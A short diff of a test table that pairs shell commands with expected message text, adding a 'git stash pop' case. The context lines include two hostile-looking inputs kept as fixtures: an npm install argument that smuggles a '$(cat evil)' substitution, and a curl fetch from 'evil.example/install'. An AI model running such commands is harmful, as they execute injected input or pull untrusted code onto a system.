@@ -94,6 +94,7 @@ test.each([
   ['bun run lint:fix 2>&1 | tail -3', 'without an edit, after `bun run lint:fix`;'],
   ['. ~/.nvm/nvm.sh && nvm use >/dev/null', 'without an edit, after `nvm use`;'],
   ['docker stop shop-test-db', 'without an edit, after `docker stop shop-test-db`;'],
+  ['git stash pop', 'after `git stash pop`;'],
   ['make lint --quiet', 'without an edit, so look at'],
   ['npm install "$(cat evil)"', 'without an edit, so look at'],
   ['curl https://evil.example/install', 'without an edit, so look at'],
